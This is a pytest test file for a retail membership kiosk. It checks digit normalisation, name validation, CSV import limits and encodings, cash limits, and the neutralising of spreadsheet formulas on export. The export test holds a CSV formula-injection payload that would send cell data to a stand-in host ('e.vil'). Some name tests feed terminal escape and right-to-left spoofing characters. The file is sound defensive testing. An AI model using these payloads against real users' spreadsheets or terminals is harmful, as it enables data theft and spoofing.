"""Issue 9, defects 7, 12 and 14 (cash, export): what a person types or a file brings in is folded or refused alike.

Full-width digits (a Chinese input method in full-width mode) are folded to 0-9 by NFKC; digits of other scripts
are refused; PINs are ASCII; names refuse control characters and over-long text; an import caps the opening
stored value, survives a full disk with the disk-full message, reads GBK; an export cannot carry a formula.
"""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from core.errors import InvalidAmount, InvalidInput, InvalidPhone, InvalidQuantity
from core.members import normalize_phone
from core.money import parse_yuan
from kiosk.cli.sales import parse_line
from kiosk.services.members import Registration
from kiosk.services.transfer import neutralize
from tests.pricing.conftest import load_demo_shop

STAFF, PIN = ("--staff", "M01"), "888888\n"


@pytest.fixture
def manager(cli) -> None:
    cli("staff", "add", "M01", "店长 陈", "--role", "manager", input=PIN)


# -- defect 7: Unicode digits ------------------------------------------------------------------------------------
def test_a_full_width_phone_is_the_same_member_not_a_second_one(cli) -> None:
    member = cli("members", "add", "--phone", "13800138007", "--consent", "--json").json()["member_id"]
    for typed in ("13８００１３８００７", "+861380013800７", "＋８６ １３８－００１３－８００７"):
        assert "already registered" in cli("members", "add", "--phone", typed, "--consent", check_rc=2).stderr
        assert cli("members", "find", "--phone", typed, "--json").json()["member_id"] == member
    assert len(cli("export", "--json").json()) == 1


@pytest.mark.parametrize("typed", ["١٣٨٠٠١٣٨٠٠٧", "138001380०७"])  # Arabic-Indic, Devanagari
def test_a_phone_in_other_scripts_digits_is_refused(typed) -> None:
    with pytest.raises(InvalidPhone, match="digits other than 0-9"):
        normalize_phone(typed)


def test_amounts_fold_full_width_and_refuse_other_scripts(cli, manager) -> None:
    member = cli("members", "add", "--phone", "13800138000", "--consent", "--json").json()["member_id"]
    assert cli("topup", member, "５０", "--json", *STAFF, input=PIN).json()["credited_fen"] == 5000
    for typed, digits in (("٥", "ARABIC-INDIC DIGIT FIVE"), ("१२", "DEVANAGARI DIGIT ONE")):
        err = cli("topup", member, typed, *STAFF, input=PIN, check_rc=2).stderr
        assert "digits other than 0-9" in err and digits in err, err
    assert cli("members", "find", "--id", member, "--json").json()["stored_value_fen"] == 5000
    assert parse_yuan("￥１２.３") == 1230
    with pytest.raises(InvalidAmount):
        parse_yuan("٥٠.٥")


def test_quantities_fold_full_width_and_refuse_other_scripts() -> None:
    assert parse_line("TEA-500:３").qty == 3
    for typed in ("TEA-500:٥", "TEA-500:१२", "TEA-500:2.5", "TEA-500:-1"):
        with pytest.raises(InvalidQuantity):
            parse_line(typed)


def test_a_full_width_pin_is_refused_because_no_keypad_can_type_it(cli, kiosk) -> None:
    err = cli("staff", "add", "M01", "店长 陈", "--role", "manager", input="１２３４５６\n", check_rc=2).stderr
    assert "6 digits 0-9" in err
    with pytest.raises(InvalidInput, match="6 digits 0-9"):
        kiosk.members.register(Registration(phone="13800138000", consent=True, pin="١٢٣٤٥٦"))
    assert kiosk.members.register(Registration(phone="13800138000", consent=True, pin="123456")).member.phone


@pytest.mark.parametrize("name, words", [
    ("张\x1b[2J三", "U+001B"),
    ("张三\n李四", "U+000A"),
    ("张\u202e三", "U+202E"),  # a right-to-left override makes one name look like another
    ("x" * 41, "41 characters long"),
])
def test_member_and_staff_names_refuse_control_characters_and_excess(cli, manager, name, words) -> None:
    err = cli("members", "add", "--phone", "13800138000", "--name", name, "--consent", check_rc=2).stderr
    assert words in err, err
    err = cli("staff", "add", "C01", name, *STAFF, input=PIN + "000000\n", check_rc=2).stderr
    assert words in err, err
    assert cli("export", "--json").json() == [] and len(cli("staff", "list", "--json").json()) == 1


def test_a_nul_in_a_name_is_refused_where_argv_cannot_carry_it(kiosk) -> None:
    with pytest.raises(InvalidInput, match=r"U\+0000"):
        kiosk.members.register(Registration(phone="13800138000", consent=True, name="张\x00三"))
    view = kiosk.members.register(Registration(phone="13800138000", consent=True, name="x" * 40))
    with pytest.raises(InvalidInput, match=r"U\+0000"):
        kiosk.members.edit(view.member.member_id, name="李\x00四")
    assert kiosk.members.get(view.member.member_id).member.name == "x" * 40


def test_the_store_name_refuses_control_characters(cli, tmp_path, monkeypatch) -> None:
    assert "U+001B" in cli("settings", "--store-name", "鲜果\x1b[2J超市", check_rc=2).stderr
    assert "at most 40" in cli("settings", "--store-name", "店" * 41, check_rc=2).stderr
    cli("settings", "--store-name", "鲜果超市")
    config = tmp_path / "kiosk.toml"
    config.write_text('[ui]\nstore_name = "鲜果\\u0000超市"\n', encoding="utf-8")
    monkeypatch.setenv("MEMBERKIOSK_CONFIG", str(config))
    err = cli("config", "show", check_rc=2).stderr
    assert "ui.store_name" in err and "U+0000" in err, err


# -- defect 12: import ---------------------------------------------------------------------------------------------
def _csv(path: Path, rows: list[tuple[str, ...]], encoding: str = "utf-8") -> Path:
    out = io.StringIO()
    csv.writer(out).writerows([("phone", "name", "birthday", "gender", "card", "stored_value"), *rows])
    path.write_bytes(out.getvalue().encode(encoding))
    return path


def test_the_opening_stored_value_is_capped_like_a_top_up(cli, tmp_path) -> None:
    source = _csv(tmp_path / "m.csv", [("13800000001", "甲", "", "", "", "999999999.99"),
                                       ("13800000002", "乙", "", "", "", "50000")])
    report = cli("import", str(source), "--json", check_rc=1).json()
    assert report["imported"] == 1
    assert report["errors"] == [{"line": 2, "error": report["errors"][0]["error"]}]
    assert "¥999999999.99 is above ¥50000.00" in report["errors"][0]["error"]
    assert [m["stored_value"] for m in cli("export", "--json").json()] == ["50000.00"]


def test_a_gbk_csv_from_excel_on_chinese_windows_imports(cli, tmp_path) -> None:
    source = _csv(tmp_path / "gbk.csv", [("13800000001", "张伟", "", "女", "", "10"),
                                         ("13800000002", "欧阳娜娜", "", "", "", "")], encoding="gbk")
    with pytest.raises(UnicodeDecodeError):
        source.read_bytes().decode("utf-8")
    assert cli("import", str(source), "--json").json() == {"imported": 2, "errors": []}
    assert [m["name"] for m in cli("export", "--json").json()] == ["张伟", "欧阳娜娜"]


def test_a_csv_in_an_unknown_encoding_is_refused_with_what_to_do(cli, tmp_path) -> None:
    source = _csv(tmp_path / "utf16.csv", [("13800000001", "张伟", "", "", "", "")], encoding="utf-16")
    err = cli("import", str(source), check_rc=2).stderr
    assert 'save as "CSV UTF-8"' in err and "Traceback" not in err


def test_exported_cells_cannot_run_as_formulas(cli, tmp_path) -> None:
    names = ['=HYPERLINK("http://e.vil/"&A1,"点")', "+SUM(1)", "-2+3", "@SUM(A1)"]
    source = _csv(tmp_path / "m.csv", [(f"1380000000{n}", name, "", "", "", "") for n, name in enumerate(names)])
    cli("import", str(source))
    (tmp_path / "out").mkdir()
    cli("export", "-o", str(tmp_path / "out" / "members.csv"))
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "members.csv").read_text(encoding="utf-8-sig"))))
    assert [row["name"] for row in rows] == ["'" + name for name in names]
    assert [row["stored_value"] for row in rows] == ["0.00"] * 4
    assert [row["name"] for row in csv.DictReader(io.StringIO(cli("export").stdout))] == ["'" + name for name in names]
    assert neutralize("-12.30") == "-12.30" and neutralize("\tx") == "'\tx" and neutralize("\r=1") == "'\r=1"


def test_export_into_a_missing_folder_says_so(cli, tmp_path) -> None:
    cli("members", "add", "--phone", "13800138000", "--consent")
    err = cli("export", "-o", str(tmp_path / "no" / "such" / "members.csv"), check_rc=2).stderr
    assert "folder" in err and "does not exist" in err and "Traceback" not in err



@pytest.mark.parametrize("tiny_disk", ["2m"], indirect=True)
def test_a_full_disk_mid_import_says_disk_full_and_imports_nothing(cli, tmp_path, tiny_disk, monkeypatch) -> None:
    monkeypatch.setenv("MEMBERKIOSK_MIN_FREE_MB", "0")  # past the floor (tests/store/test_disk_full.py): the real ENOSPC
    data = ("--data-dir", str(tiny_disk / "data"))
    cli(*data, "members", "add", "--phone", "13900000000", "--consent")
    rows = [(f"138{n:08d}", "会员" * 15, "1990-01-01", "F", "", "100") for n in range(20_000)]
    proc = cli(*data, "import", str(_csv(tmp_path / "big.csv", rows)), check_rc=2)
    assert "the disk is full: nothing was saved" in proc.stderr, proc.stderr
    assert "savepoint" not in proc.stderr and "Traceback" not in proc.stderr
    assert [m["phone"] for m in cli(*data, "export", "--json").json()] == ["13900000000"]
    assert cli(*data, "verify").returncode == 0


# -- defect 14: cash tendered -------------------------------------------------------------------------------------
def test_cash_far_above_the_amount_due_is_refused(cli, manager, tmp_path) -> None:
    load_demo_shop(cli, tmp_path)
    err = cli("checkout", "--sku", "NUTS", "--cash", "999999999.99", *STAFF, input=PIN, check_rc=2).stderr
    assert "is more than ¥1000.00 above the ¥99.99 left to pay" in err, err
    sale = cli("checkout", "--sku", "NUTS", "--cash", "1099.99", "--json", *STAFF, input=PIN).json()
    assert sale["change"] == 100_000
    assert "more than ¥1000.00" in cli("checkout", "--sku", "NUTS", "--cash", "1100", *STAFF, input=PIN,
                                       check_rc=2).stderr
